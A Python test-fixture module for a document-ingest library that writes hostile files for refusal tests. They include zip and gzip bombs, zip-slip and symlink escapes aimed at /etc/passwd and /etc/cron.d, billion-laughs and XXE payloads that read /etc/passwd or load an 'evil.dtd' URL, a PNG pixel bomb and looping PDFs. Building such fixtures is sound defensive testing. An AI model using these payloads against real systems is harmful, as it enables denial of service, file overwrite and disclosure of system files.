"""Makers of hostile files, and of benign files that look like them, for ingest tests.

Every maker writes one small file at test time (a zip bomb is kilobytes on disk) and returns its
path. Hostile files must be refused with a specific reason; the benign look-alikes (a big but
legal image, an archive of 1,000 members, legal nesting, an empty-password PDF) must extract.

Nothing here touches the network: the URLs in the XXE files use TEST-NET addresses
(192.0.2.0/24, RFC 5737) that route nowhere, and a test checks no socket is even opened.
"""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Literal

from PIL import Image

from delil.testing import writers

UNROUTABLE_URL = "http://192.0.2.10/evil.dtd"
"""An http:// URL in TEST-NET-1: documentation-only, never routed."""
SECRET_FILE_URL = "file:///etc/passwd"

_W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_S_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _replace_members(path: Path, replacements: dict[str, bytes]) -> Path:
    """Rewrite a zip with some members' bytes replaced (order and other members kept)."""
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, replacements.get(info.filename, source.read(info)))
    return path


def write_zip_bomb(
    path: Path, expanded_bytes: int = 64 << 20, *, member: str = "report.txt"
) -> Path:
    """Write a zip with one member of ``expanded_bytes`` zero bytes (about 1,000:1 compressed).

    Args:
        path: file to write.
        expanded_bytes: how large the member expands; 64 MiB is about 64 KiB on disk.
        member: the member's name.
    """
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        info = zipfile.ZipInfo(member, date_time=(2024, 3, 14, 9, 30, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=expanded_bytes >= 1 << 31) as out:
            left = expanded_bytes
            while left > 0:
                out.write(chunk[: min(left, len(chunk))])
                left -= len(chunk)
    return path


def write_zip_bomb_lying_size(path: Path, expanded_bytes: int = 64 << 20) -> Path:
    """Write :func:`write_zip_bomb` whose headers declare the member as 1 KiB (declared sizes lie).

    Both the local header and the central directory claim 1,024 bytes. Readers that trust the
    declared size see a harmless file; zipfile stops at it and then finds the CRC wrong.
    """
    write_zip_bomb(path, min(expanded_bytes, (1 << 31) - 1))
    data = bytearray(path.read_bytes())
    # Patch the uncompressed-size field of the local header (offset 22) and of the central
    # directory entry (offset 24).
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        data[at + offset : at + offset + 4] = struct.pack("<I", 1024)
    path.write_bytes(bytes(data))
    return path


def write_gzip_bomb(path: Path, expanded_bytes: int = 64 << 20) -> Path:
    """Write a gzip file of ``expanded_bytes`` zero bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = bytes(1 << 20)
    with path.open("wb") as out:
        left = expanded_bytes
        while left > 0:
            out.write(compressor.compress(chunk[: min(left, len(chunk))]))
            left -= len(chunk)
        out.write(compressor.flush())
    return path


def write_nested_zip(
    path: Path, depth: int, *, text: str = "Innermost note of the archive."
) -> Path:
    """Write a zip nested ``depth`` levels deep: a zip in a zip ... around one text file.

    ``depth=1`` is a zip holding the text file; ``depth=3`` a zip holding a zip holding a zip
    holding the text.
    """
    data = text.encode("utf-8")
    name = "note.txt"
    for level in range(depth, 0, -1):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, data)
        data = buffer.getvalue()
        name = f"level-{level}.zip"
    path.write_bytes(data)
    return path


def write_zip_slip(path: Path, kind: Literal["parent", "absolute"] = "parent") -> Path:
    """Write a zip with a benign member and one whose name escapes (``../`` or absolute)."""
    escaping = "../../outside/planted.txt" if kind == "parent" else "/etc/cron.d/planted"
    return writers.write_zip(
        path, {"notes.txt": b"benign member\n", escaping: b"should never be written outside\n"}
    )


def write_zip_symlink_escape(path: Path) -> Path:
    """Write a zip with a Unix symlink member pointing at ``/etc/passwd``."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", b"benign member\n")
        info = zipfile.ZipInfo("passwd-link", date_time=(2024, 3, 14, 9, 30, 0))
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, b"/etc/passwd")
    return path


def _tar_with(path: Path, link: tarfile.TarInfo) -> Path:
    with tarfile.open(path, "w") as archive:
        data = b"benign member\n"
        info = tarfile.TarInfo("docs/notes.txt")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
        archive.addfile(link)
    return path


def write_tar_symlink_escape(path: Path, target: str = "../../../etc/passwd") -> Path:
    """Write a tar with a symlink ``docs/link`` whose target climbs out of the archive."""
    link = tarfile.TarInfo("docs/link")
    link.type = tarfile.SYMTYPE
    link.linkname = target
    return _tar_with(path, link)


def write_tar_hardlink_escape(path: Path, target: str = "../outside.txt") -> Path:
    """Write a tar with a hardlink ``docs/copy`` to a path outside the archive."""
    link = tarfile.TarInfo("docs/copy")
    link.type = tarfile.LNKTYPE
    link.linkname = target
    return _tar_with(path, link)


def write_tar_internal_symlink(path: Path) -> Path:
    """Write a benign tar whose symlink points at another member (kept out with a warning)."""
    link = tarfile.TarInfo("docs/latest")
    link.type = tarfile.SYMTYPE
    link.linkname = "notes.txt"
    return _tar_with(path, link)


def _billion_laughs(root: str, body: str, ns: str) -> bytes:
    entities = ['<!ENTITY lol0 "lol">']
    for i in range(1, 10):
        entities.append(f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">')
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE {root} [\n  " + "\n  ".join(entities) + "\n]>\n"
        f'<{root} xmlns:w="{ns}">{body}</{root}>'
    ).encode("utf-8")


def write_billion_laughs_docx(path: Path) -> Path:
    """Write a DOCX whose ``word/document.xml`` expands ``&lol9;`` to 10^9 ``lol``s."""
    writers.write_docx(path, ["Placeholder paragraph."])
    body = "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body>"
    return _replace_members(path, {"word/document.xml": _billion_laughs("w:document", body, _W_NS)})


def _xxe_doctype(root: str) -> str:
    return (
        f"<!DOCTYPE {root} [\n"
        f'  <!ENTITY secret SYSTEM "{SECRET_FILE_URL}">\n'
        f'  <!ENTITY remote SYSTEM "{UNROUTABLE_URL}">\n'
        f'  <!ENTITY % dtd SYSTEM "{UNROUTABLE_URL}">\n'
        "  %dtd;\n"
        "]>\n"
    )


def write_xxe_docx(path: Path, *, encoding: str = "utf-8") -> Path:
    """Write a DOCX whose document part declares external entities (a file and a URL).

    Args:
        path: file to write.
        encoding: encoding of the hostile part; ``utf-16`` checks that scanning for
            ``<!DOCTYPE`` does not assume ASCII-compatible bytes.
    """
    writers.write_docx(path, ["Placeholder paragraph."])
    xml = (
        f'<?xml version="1.0" encoding="{encoding.upper()}" standalone="yes"?>\n'
        + _xxe_doctype("w:document")
        + f'<w:document xmlns:w="{_W_NS}"><w:body><w:p><w:r><w:t>&secret;&remote;</w:t>'
        "</w:r></w:p></w:body></w:document>"
    )
    return _replace_members(path, {"word/document.xml": xml.encode(encoding)})


def write_xxe_xlsx(path: Path) -> Path:
    """Write an XLSX whose first sheet declares external entities (a file and a URL)."""
    writers.write_xlsx(path, {"Sheet1": [["placeholder"]]})
    xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        + _xxe_doctype("worksheet")
        + f'<worksheet xmlns="{_S_NS}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is>'
        "<t>&secret;&remote;</t></is></c></row></sheetData></worksheet>"
    )
    return _replace_members(path, {"xl/worksheets/sheet1.xml": xml.encode("utf-8")})


def write_docx_part_bomb(path: Path, expanded_bytes: int = 64 << 20) -> Path:
    """Write a DOCX with an extra part of ``expanded_bytes`` zeros (python-docx reads it all)."""
    writers.write_docx(path, ["Placeholder paragraph."])
    chunk = bytes(1 << 20)
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/padding.bin", "w", force_zip64=True) as out,
    ):
        left = expanded_bytes
        while left > 0:
            out.write(chunk[: min(left, len(chunk))])
            left -= len(chunk)
    return path


def write_html_external_entity(path: Path) -> Path:
    """Write an HTML page with an external DTD and an external entity in its doctype."""
    page = (
        f'<!DOCTYPE html SYSTEM "{UNROUTABLE_URL}" [\n'
        f'  <!ENTITY secret SYSTEM "{SECRET_FILE_URL}">\n]>\n'
        "<html><head><title>Notice</title></head>"
        "<body><p>Public notice: &secret;</p></body></html>\n"
    )
    path.write_text(page, encoding="utf-8")
    return path


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def write_png_pixel_bomb(path: Path, width: int = 100_000, height: int = 100_000) -> Path:
    """Write a tiny PNG whose header claims ``width`` x ``height`` pixels (10^10 by default)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)  # 8-bit grayscale
    data = (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(bytes(4096)))
        + _png_chunk(b"IEND", b"")
    )
    path.write_bytes(data)
    return path


def write_big_image(path: Path, pixels: int, *, text: str = "Large scan test") -> Path:
    """Write a legal PNG of just about ``pixels`` pixels (square-ish), with a line of text.

    Use it with a limit slightly above ``pixels`` to check images under the cap still extract.
    """
    width = int(pixels**0.5)
    height = pixels // width
    image = Image.new("L", (width, height), 255)
    line = writers.render_text_image(text, width=min(width, 900))
    image.paste(line, (0, 0))
    image.save(path, "PNG", optimize=False)
    return path


def write_truncated_pdf(path: Path, keep: float = 0.6) -> Path:
    """Write a text PDF cut off after ``keep`` of its bytes (no cross-reference table left)."""
    writers.write_pdf(path, ["Truncated document page one."])
    data = path.read_bytes()
    path.write_bytes(data[: int(len(data) * keep)])
    return path


def _pdf(objects: list[bytes]) -> bytes:
    """Assemble a PDF from object bodies (object N is ``objects[N-1]``), with a correct xref."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def write_pdf_object_loop(path: Path) -> Path:
    """Write a PDF whose page tree loops: the only Pages node's kid is its own parent."""
    path.write_bytes(
        _pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
            ]
        )
    )
    return path


def write_pdf_reference_loop(path: Path) -> Path:
    """Write a PDF whose page tree root is an indirect reference that refers to itself."""
    path.write_bytes(
        _pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"4 0 R",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
                b"2 0 R",
            ]
        )
    )
    return path


def write_many_member_zip(path: Path, members: int = 1000) -> Path:
    """Write a benign zip with ``members`` small text members."""
    return writers.write_zip(
        path, {f"notes/note-{i:04d}.txt": f"Note number {i}.\n".encode() for i in range(members)}
    )
